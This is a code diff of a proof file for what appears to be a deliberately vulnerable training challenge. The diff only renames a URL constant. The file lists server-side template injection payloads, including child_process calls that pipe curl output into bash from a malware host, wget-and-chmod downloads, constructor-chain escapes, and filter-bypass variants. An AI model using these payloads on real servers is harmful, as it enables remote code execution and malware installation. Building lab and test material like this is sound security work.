@@ -1,7 +1,7 @@
 import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
 import { challenge } from './challenge.ts'
 
-const DOOR = 'http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
+const INTERNAL_PATH = 'http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
 const WORMS = 'http://cellar.internal/quarantine/'
 const CHILD = "process.mainModule.require('child_process')"
 
@@ -48,18 +48,18 @@ export const proof = prove(challenge, {
     'downloaded by curl, started by bash': named(
       `#{${CHILD}.execSync('curl -s ${WORMS}juicy_malware_macos_64 | bash')}`,
     ),
-    'without a worm, by curl': named(`#{${CHILD}.execSync('curl -s "${DOOR}"')}`),
-    'without a shell': named(`#{fetch('${DOOR}').then((answer) => answer.status)}`),
-    'by a client of the language': named(`#{require('http').get('${DOOR}')}`),
-    'by require at hand': named(`#{require('child_process').exec('curl "${DOOR}"')}`),
+    'without a worm, by curl': named(`#{${CHILD}.execSync('curl -s "${INTERNAL_PATH}"')}`),
+    'without a shell': named(`#{fetch('${INTERNAL_PATH}').then((answer) => answer.status)}`),
+    'by a client of the language': named(`#{require('http').get('${INTERNAL_PATH}')}`),
+    'by require at hand': named(`#{require('child_process').exec('curl "${INTERNAL_PATH}"')}`),
     'by the constructor of a constructor': named(
-      `#{''.constructor.constructor("return process")().mainModule.require('child_process').execSync('curl -s "${DOOR}"')}`,
+      `#{''.constructor.constructor("return process")().mainModule.require('child_process').execSync('curl -s "${INTERNAL_PATH}"')}`,
     ),
     'by a function that calls itself': named(
-      `#{(() => { const all = []; all.push(${CHILD}.spawnSync('curl', ['${DOOR}'])); return 1 })()}`,
+      `#{(() => { const all = []; all.push(${CHILD}.spawnSync('curl', ['${INTERNAL_PATH}'])); return 1 })()}`,
     ),
     'written to a file first': named(
-      `#{require('fs').writeFileSync('/tmp/k.sh', 'curl -s "${DOOR}"'); require('child_process').execSync('bash /tmp/k.sh')}`,
+      `#{require('fs').writeFileSync('/tmp/k.sh', 'curl -s "${INTERNAL_PATH}"'); require('child_process').execSync('bash /tmp/k.sh')}`,
     ),
     'download and start in two names': async (attacker) => {
       await attacker.becomeCustomer()
@@ -75,32 +75,32 @@ export const proof = prove(challenge, {
       `#{${CHILD}.execSync('wget -O malware ${WORMS}juicy_malware_linux_amd_64 && chmod +x malware')}`,
     ),
     'the worm for a machine that this is none': named(`#{${CHILD}.exec('${worm('juicy_malware_windows_64.exe')}')}`),
-    'a wrong key': named(`#{fetch('${DOOR}x')}`),
-    'the command as text': named(`#{'curl ${DOOR}'}`),
-    'the command in a name without a formula': named(`curl ${DOOR}`),
-    'in braces of another language': named(`{{fetch('${DOOR}')}}`),
-    'in braces of a text': named(`\${fetch('${DOOR}')}`),
-    'a formula in the middle of a name': named(`Pip #{fetch('${DOOR}')} Apple`),
+    'a wrong key': named(`#{fetch('${INTERNAL_PATH}x')}`),
+    'the command as text': named(`#{'curl ${INTERNAL_PATH}'}`),
+    'the command in a name without a formula': named(`curl ${INTERNAL_PATH}`),
+    'in braces of another language': named(`{{fetch('${INTERNAL_PATH}')}}`),
+    'in braces of a text': named(`\${fetch('${INTERNAL_PATH}')}`),
+    'a formula in the middle of a name': named(`Pip #{fetch('${INTERNAL_PATH}')} Apple`),
     'a formula that fails': named('#{pip(}'),
     'the name, and nobody looks': async (attacker) => {
       await attacker.becomeCustomer()
-      await send(attacker, '/profile', { username: `#{fetch('${DOOR}')}` })
+      await send(attacker, '/profile', { username: `#{fetch('${INTERNAL_PATH}')}` })
     },
     'a sum, then the door from outside': async (attacker) => {
       await named('#{7*7}')(attacker)
-      await attacker.get(new URL(DOOR).pathname + new URL(DOOR).search)
+      await attacker.get(new URL(INTERNAL_PATH).pathname + new URL(INTERNAL_PATH).search)
     },
     'the door as a picture, which is another hole': async (attacker) => {
       await named('#{7*7}')(attacker)
-      await send(attacker, '/profile/image/url', { imageUrl: DOOR })
+      await send(attacker, '/profile/image/url', { imageUrl: INTERNAL_PATH })
     },
     'as the code of an order': async (attacker) => {
       await attacker.becomeCustomer()
-      await attacker.post('/b2b/v2/orders', { cid: 'x', orderLinesData: `fetch('${DOOR}')` })
+      await attacker.post('/b2b/v2/orders', { cid: 'x', orderLinesData: `fetch('${INTERNAL_PATH}')` })
     },
   },
   bypasses: {
-    'refuse-known-words': named(`#{fetch('${DOOR}')}`),
-    'hide-the-program': named(`#{(() => {}).constructor("return fetch('${DOOR}')")()}`),
+    'refuse-known-words': named(`#{fetch('${INTERNAL_PATH}')}`),
+    'hide-the-program': named(`#{(() => {}).constructor("return fetch('${INTERNAL_PATH}')")()}`),
   },
 })
